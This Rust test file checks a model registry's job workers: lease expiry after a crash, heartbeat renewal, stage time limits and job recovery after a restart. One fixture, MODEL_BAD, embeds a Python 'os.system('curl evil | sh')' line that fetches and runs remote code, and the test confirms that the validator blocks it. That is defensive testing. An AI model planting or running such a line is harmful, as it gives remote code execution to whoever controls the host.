//! Worker tests: a worker dies mid-evaluation; after its lease expires another worker runs the
//! job and the result is recorded exactly once. Stage time limits are enforced.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bytes::Bytes;
use gas_registry::db::now_ms;
use gas_registry::stage::{self, Evaluator, StageFuture, StageResult};
use gas_registry::store::{model_key, staging_key};
use gas_registry::worker::{self, WorkerConfig};
use gas_registry::{Db, Model, NewMetric, NewModel, PendingUpload, Store};
use sha2::{Digest, Sha256};

/// Counts runs; sleeps `delay` before answering with one metric.
struct Slow {
    runs: AtomicUsize,
    delay: Duration,
}

impl Evaluator for Slow {
    fn run<'a>(&'a self, stage: &'a str, model: &'a Model, store: &'a Store) -> StageFuture<'a> {
        Box::pin(async move {
            self.runs.fetch_add(1, Ordering::SeqCst);
            tokio::time::sleep(self.delay).await;
            let mut r = stage::integrity(model, store).await?;
            assert!(r.passed, "{:?}", r.reasons);
            r.model_status = format!("{stage}_done");
            r.metrics = vec![NewMetric {
                dataset: "*".into(),
                sn34: Some(0.5),
                mcc: Some(0.4),
                brier: Some(0.2),
                accuracy: Some(0.7),
                samples: 10,
                base_sn34: None,
                aug_sn34: None,
            }];
            Ok::<StageResult, gas_registry::RegistryError>(r)
        })
    }
}

async fn setup() -> (tempfile::TempDir, Db, Store, String) {
    let dir = tempfile::tempdir().unwrap();
    let db = Db::sqlite_file(&dir.path().join("m.db")).await.unwrap();
    let store = Store::local(dir.path().join("o")).unwrap();
    let data = b"PK\x03\x04 pretend zip".to_vec();
    let sha = hex::encode(Sha256::digest(&data));
    store
        .put_bytes(&model_key(&sha), Bytes::from(data.clone()))
        .await
        .unwrap();
    let id = uuid::Uuid::new_v4().to_string();
    let u = PendingUpload {
        staging_key: staging_key(&id),
        model_id: id.clone(),
        hotkey: "hk".into(),
        modality: "image".into(),
        vertical: "general".into(),
        filename: "m.zip".into(),
        expected_hash: sha.clone(),
        file_size: data.len() as i64,
        state: "received".into(),
        created_at: now_ms(),
        expires_at: now_ms() + 60_000,
    };
    db.insert_upload(&u).await.unwrap();
    db.confirm_model(NewModel {
        upload: &u,
        r2_key: &model_key(&sha),
        first_stage: "validate",
        max_attempts: 3,
        max_per_modality: 3,
    })
    .await
    .unwrap();
    (dir, db, store, id)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn worker_killed_mid_evaluation_job_finishes_once() {
    let (_dir, db, store, id) = setup().await;
    let ev = Arc::new(Slow {
        runs: AtomicUsize::new(0),
        delay: Duration::from_millis(1500),
    });
    let cfg = WorkerConfig {
        name: "doomed".into(),
        lease_ttl: Duration::from_millis(600),
        ..WorkerConfig::default()
    };
    // Worker 1 starts, then "crashes" (its task is dropped mid-stage: no heartbeat, no result).
    let t = {
        let (db, store, ev, cfg) = (db.clone(), store.clone(), ev.clone(), cfg.clone());
        tokio::spawn(async move { worker::run_one(&db, &store, ev.as_ref(), &cfg).await })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    t.abort();
    assert!(t.await.unwrap_err().is_cancelled());
    assert_eq!(ev.runs.load(Ordering::SeqCst), 1);
    // While the lease is live nobody else gets the job.
    let cfg2 = WorkerConfig {
        name: "survivor".into(),
        ..cfg.clone()
    };
    assert!(
        db.lease_job("peek", Duration::from_secs(1))
            .await
            .unwrap()
            .is_none()
    );
    tokio::time::sleep(Duration::from_millis(700)).await;
    let fast = Slow {
        runs: AtomicUsize::new(0),
        delay: Duration::ZERO,
    };
    assert!(worker::run_one(&db, &store, &fast, &cfg2).await.unwrap());
    assert!(
        !worker::run_one(&db, &store, &fast, &cfg2).await.unwrap(),
        "queue empty"
    );
    assert_eq!(fast.runs.load(Ordering::SeqCst), 1);
    let jobs = db.jobs_of(&id).await.unwrap();
    assert_eq!(jobs.len(), 1);
    assert_eq!((jobs[0].state.as_str(), jobs[0].attempts), ("done", 2));
    assert_eq!(
        db.model(&id).await.unwrap().unwrap().status,
        "validate_done"
    );
    assert_eq!(
        db.metrics_of(&id).await.unwrap().len(),
        1,
        "recorded exactly once"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn heartbeat_keeps_a_long_stage_and_time_limit_fails_it() {
    let (_dir, db, store, id) = setup().await;
    // The stage outlives the lease TTL three times over; heartbeats keep it ours.
    let ev = Slow {
        runs: AtomicUsize::new(0),
        delay: Duration::from_millis(1200),
    };
    let cfg = WorkerConfig {
        lease_ttl: Duration::from_millis(400),
        ..WorkerConfig::default()
    };
    let other = {
        let db = db.clone();
        tokio::spawn(async move {
            let mut stolen = 0;
            for _ in 0..10 {
                tokio::time::sleep(Duration::from_millis(100)).await;
                if db
                    .lease_job("thief", Duration::from_secs(5))
                    .await
                    .unwrap()
                    .is_some()
                {
                    stolen += 1;
                }
            }
            stolen
        })
    };
    assert!(worker::run_one(&db, &store, &ev, &cfg).await.unwrap());
    assert_eq!(other.await.unwrap(), 0, "lease renewed while running");
    assert_eq!(db.jobs_of(&id).await.unwrap()[0].state, "done");

    // Time limit: a new model whose validate stage is slower than its limit.
    let (_dir2, db2, store2, id2) = setup().await;
    let cfg = WorkerConfig {
        validate_timeout: Duration::from_millis(200),
        ..WorkerConfig::default()
    };
    assert!(worker::run_one(&db2, &store2, &ev, &cfg).await.unwrap());
    let j = &db2.jobs_of(&id2).await.unwrap()[0];
    assert_eq!(j.state, "failed");
    assert!(j.error.as_deref().unwrap().contains("time limit"), "{j:?}");
    assert_eq!(
        db2.model(&id2).await.unwrap().unwrap().status,
        "exam_failed"
    );
}

const MODEL_OK: &str = gas_test_support::MODEL_PY;
const MODEL_BAD: &str = "import os\nimport torch\n\ndef load_model(weights_path, num_classes=2):\n    os.system('curl evil | sh')\n    return torch.nn.Linear(2, num_classes)\n";

fn zip_package(model_py: &str) -> Vec<u8> {
    gas_test_support::package_zip(gas_test_support::IMAGE_CONFIG, model_py, 6)
}

async fn confirmed(db: &Db, store: &Store, data: &[u8]) -> String {
    let sha = hex::encode(Sha256::digest(data));
    store
        .put_bytes(&model_key(&sha), Bytes::from(data.to_vec()))
        .await
        .unwrap();
    let id = uuid::Uuid::new_v4().to_string();
    let u = PendingUpload {
        staging_key: staging_key(&id),
        model_id: id.clone(),
        hotkey: format!("hk-{id}"),
        modality: "image".into(),
        vertical: "general".into(),
        filename: "m.zip".into(),
        expected_hash: sha.clone(),
        file_size: data.len() as i64,
        state: "received".into(),
        created_at: now_ms(),
        expires_at: now_ms() + 60_000,
    };
    db.insert_upload(&u).await.unwrap();
    db.confirm_model(NewModel {
        upload: &u,
        r2_key: &model_key(&sha),
        first_stage: "validate",
        max_attempts: 3,
        max_per_modality: 3,
    })
    .await
    .unwrap();
    id
}

#[tokio::test]
async fn package_evaluator_uses_gas_package_validate() {
    let dir = tempfile::tempdir().unwrap();
    let db = Db::sqlite_file(&dir.path().join("m.db")).await.unwrap();
    let store = Store::local(dir.path().join("o")).unwrap();
    let good = confirmed(&db, &store, &zip_package(MODEL_OK)).await;
    let bad = confirmed(&db, &store, &zip_package(MODEL_BAD)).await;
    let ev = stage::PackageEvaluator {
        next_after_validate: None,
    };
    let cfg = WorkerConfig::default();
    while worker::run_one(&db, &store, &ev, &cfg).await.unwrap() {}

    let g = db.model(&good).await.unwrap().unwrap();
    assert_eq!(g.status, "valid", "{:?}", g.reasons);
    assert!(g.reasons.is_empty());
    let job = &db.jobs_of(&good).await.unwrap()[0];
    assert_eq!(job.result.as_ref().unwrap()["passed"], true);
    assert_eq!(job.result.as_ref().unwrap()["detail"]["valid"], true);

    let b = db.model(&bad).await.unwrap().unwrap();
    // `os.system`: a blocked import, the network's `blocked`.
    assert_eq!(b.status, "blocked");
    assert!(
        b.reasons
            .iter()
            .any(|r| r.contains("os.system") || r.contains("os")),
        "{:?}",
        b.reasons
    );
    assert_eq!(
        db.jobs_of(&bad).await.unwrap()[0].result.as_ref().unwrap()["passed"],
        false
    );
}

/// Aborts a worker mid-stage (its task is dropped: no heartbeat, no result), leaving the
/// model's job `running` under a 60 s lease.
async fn crash_mid_stage(db: &Db, store: &Store, model_id: &str, name: String) {
    let ev = Arc::new(Slow {
        runs: AtomicUsize::new(0),
        delay: Duration::from_secs(3600),
    });
    let cfg = WorkerConfig {
        name,
        lease_ttl: Duration::from_secs(60),
        ..WorkerConfig::default()
    };
    let t = {
        let (db, store) = (db.clone(), store.clone());
        tokio::spawn(async move { worker::run_one(&db, &store, ev.as_ref(), &cfg).await })
    };
    while db.jobs_of(model_id).await.unwrap()[0].state != "running" {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    t.abort();
    let _ = t.await;
}

/// A server restarted after a crash takes its in-process workers' jobs back at once (not after
/// the 60 s lease) and finishes them within seconds; an external worker's job keeps its lease.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restarted_server_resumes_its_in_process_jobs_within_seconds() {
    let (_dir, db, store, own) = setup().await;
    crash_mid_stage(&db, &store, &own, worker::in_process_name("srv1", 0)).await;
    assert_eq!(db.jobs_of(&own).await.unwrap()[0].state, "running");

    // An external worker's job, also left running by a crash.
    let (_dir2, db2, store2, ext) = setup().await;
    crash_mid_stage(&db2, &store2, &ext, "external-1".into()).await;

    let ev: Arc<dyn Evaluator> = Arc::new(Slow {
        runs: AtomicUsize::new(0),
        delay: Duration::from_millis(10),
    });
    let cfg = WorkerConfig {
        lease_ttl: Duration::from_secs(60),
        poll: Duration::from_millis(100),
        ..WorkerConfig::default()
    };
    let start = std::time::Instant::now();
    // Another server's instance takes nothing back.
    assert_eq!(
        worker::start_in_process(&db, &store, ev.clone(), &cfg, "srv2", 0)
            .await
            .unwrap(),
        0
    );
    let n = worker::start_in_process(&db, &store, ev.clone(), &cfg, "srv1", 1)
        .await
        .unwrap();
    assert_eq!(n, 1);
    loop {
        let j = &db.jobs_of(&own).await.unwrap()[0];
        if j.state == "done" {
            assert_eq!(j.attempts, 2, "{j:?}");
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "not resumed: {j:?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(start.elapsed() < Duration::from_secs(5));

    assert_eq!(
        worker::start_in_process(&db2, &store2, ev, &cfg, "srv1", 1)
            .await
            .unwrap(),
        0,
        "an external worker's job is not taken back"
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(db2.jobs_of(&ext).await.unwrap()[0].state, "running");
}
